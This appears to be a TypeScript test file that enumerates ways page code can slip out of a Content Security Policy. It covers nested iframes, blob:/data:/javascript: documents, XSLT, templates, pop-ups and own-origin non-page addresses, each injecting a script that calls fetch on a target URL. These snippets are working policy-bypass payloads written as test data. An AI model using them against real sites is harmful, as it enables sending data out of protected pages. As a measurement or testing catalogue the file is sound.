import { channels } from '../Channel';

const markup = `'<img src="' + to.url + '"><script>fetch(' + JSON.stringify(to.url) + ')</scr' + 'ipt>'`;
/** Uses a window that may lack our policy. */
const use = (window: string) =>
  `const other = ${window}; for (let turn = 0; turn < 12; turn++) { await wait(150); try { abuse(other, to) } catch {} }`;

/** Addresses of our own that are no page: what the server says of them may carry no policy. */
const ownPlaces = {
  'not there (404)': './nowhere-' + 'exits.html',
  'the icon as a document': './icon.svg',
  'the manifest as a document': './manifest.webmanifest',
  'a script as a document': './serviceWorker.js',
};

const own = (verb: string, open: (place: string) => string) =>
  Object.fromEntries(
    Object.entries(ownPlaces).map(([name, place]) => [`${verb}: ${name}`, use(open(`'${place}'`))]),
  );

const frames = {
  'iframe src': `add('iframe', { src: to.url })`,
  'frame in a frameset': `add('frame', { src: to.url }, add('frameset', {}, document.documentElement))`,
  'iframe srcdoc': `add('iframe').srcdoc = html(${markup})`,
  'iframe blob:': `add('iframe', { src: URL.createObjectURL(new Blob([${markup}], { type: 'text/html' })) })`,
  'iframe data:': `add('iframe', { src: 'data:text/html,' + encodeURIComponent(${markup}) })`,
  'iframe javascript:': `add('iframe').src = 'javascript:' + JSON.stringify(${markup})`,
  'iframe blob: of XML with a foreign style sheet': `add('iframe', { src: URL.createObjectURL(new Blob(['<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + to.url + '"?><a/>'], { type: 'text/xml' })) })`,
  'empty frame, written into': `const inner = add('iframe').contentDocument; inner.open(); inner.write(html(${markup})); inner.close()`,
  'empty frame, elements': use(`add('iframe').contentWindow`),
  'empty frame, navigated': `add('iframe').contentWindow.location = to.url`,
  'iframe, sandboxed': `const frame = add('iframe', { sandbox: 'allow-scripts' }); frame.srcdoc = html(${markup})`,
  'iframe, credentialless': `const frame = document.createElement('iframe'); frame.credentialless = true; frame.src = to.url; document.body.append(frame)`,
  'iframe csp attribute': `add('iframe', { csp: "default-src *", src: to.url })`,
  fencedframe: `add('fencedframe').config = new FencedFrameConfig(to.url)`,
  portal: `add('portal', { src: to.url })`,
  'iframe of a document made aside': use(
    `(() => { const frame = document.implementation.createHTMLDocument('').createElement('iframe'); document.body.append(frame); return frame.contentWindow })()`,
  ),
  'iframe by a name with a prefix': use(
    `(() => { const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe'); document.body.append(frame); return frame.contentWindow })()`,
  ),
  'iframe by a name that changes': use(
    `(() => { let turn = 0; const frame = document.createElement({ toString: () => (turn++ ? 'p' : 'iframe') }); document.body.append(frame); return frame.contentWindow })()`,
  ),
  'iframe by setHTML': use(
    `(() => { const box = add('div'); box.setHTML('<iframe></iframe>', { sanitizer: { elements: ['iframe'] } }); return box.firstChild.contentWindow })()`,
  ),
  'iframe by setHTMLUnsafe': use(
    `(() => { const box = add('div'); box.setHTMLUnsafe(html('<iframe></iframe>')); return box.firstChild.contentWindow })()`,
  ),
  'iframe by a range': use(
    `(() => { document.body.append(document.createRange().createContextualFragment(html('<iframe></iframe>'))); return globalThis[globalThis.length - 1] })()`,
  ),
  'iframe by a template': use(
    `(() => { const template = document.createElement('template'); template.innerHTML = html('<iframe></iframe>'); document.body.append(template.content); return globalThis[globalThis.length - 1] })()`,
  ),
  'iframe by Document.parseHTMLUnsafe': use(
    `(() => { const frame = Document.parseHTMLUnsafe(html('<iframe></iframe>')).querySelector('iframe'); document.body.append(frame); return frame.contentWindow })()`,
  ),
  'iframe by XSLT': use(
    `(() => { const sheet = document.implementation.createDocument('', '', null); const element = (name, more = {}) => { const made = sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', name); for (const key in more) made.setAttribute(key, more[key]); return made }; const root = element('xsl:stylesheet', { version: '1.0' }); const template = element('xsl:template', { match: '/' }); const frame = element('xsl:element', { name: 'iframe' }); template.append(frame); root.append(template); sheet.append(root); const processor = new XSLTProcessor(); processor.importStylesheet(sheet); document.body.append(processor.transformToFragment(document, document)); return globalThis[globalThis.length - 1] })()`,
  ),
  'iframe as a custom element': use(
    `(() => { customElements.define('exits-a', class extends HTMLIFrameElement {}, { extends: 'iframe' }); const frame = new (customElements.get('exits-a'))(); document.body.append(frame); return frame.contentWindow })()`,
  ),
  'iframe by editing': use(
    `(() => { const box = add('div', { contenteditable: '' }); box.focus(); document.execCommand('insertHTML', false, html('<iframe></iframe>')); return box.querySelector('iframe').contentWindow })()`,
  ),
  'document in an object': `add('object', { data: URL.createObjectURL(new Blob([${markup}], { type: 'text/html' })), type: 'text/html' })`,
  ...own('iframe of an own address', (place) => `add('iframe', { src: ${place} }).contentWindow`),
};

const popups = {
  'pop-up about:blank, elements': use(`open('about:blank')`),
  'pop-up about:blank, written into': `const other = open('about:blank'); other.document.write(html(${markup})); other.document.close()`,
  'pop-up blob:': `open(URL.createObjectURL(new Blob([${markup}], { type: 'text/html' })))`,
  'pop-up data:': `open('data:text/html,' + encodeURIComponent(${markup}))`,
  'pop-up javascript:': `open('javascript:' + JSON.stringify(${markup}))`,
  'pop-up without opener, blob:': `add('a', { href: URL.createObjectURL(new Blob([${markup}], { type: 'text/html' })), target: '_blank', rel: 'noopener' }).click()`,
  'document picture-in-picture': use(`await documentPictureInPicture.requestWindow()`),
  ...own('pop-up of an own address', (place) => `open(${place})`),
};

export const framesAndPopups = [
  ...channels('frames', 'page', frames, {}),
  ...channels('pop-ups', 'page', popups, { press: true }),
  ...channels(
    'pop-ups',
    'page',
    { 'document.write': `document.open(); document.write(html(${markup})); document.close()` },
    { alone: true },
  ),
];
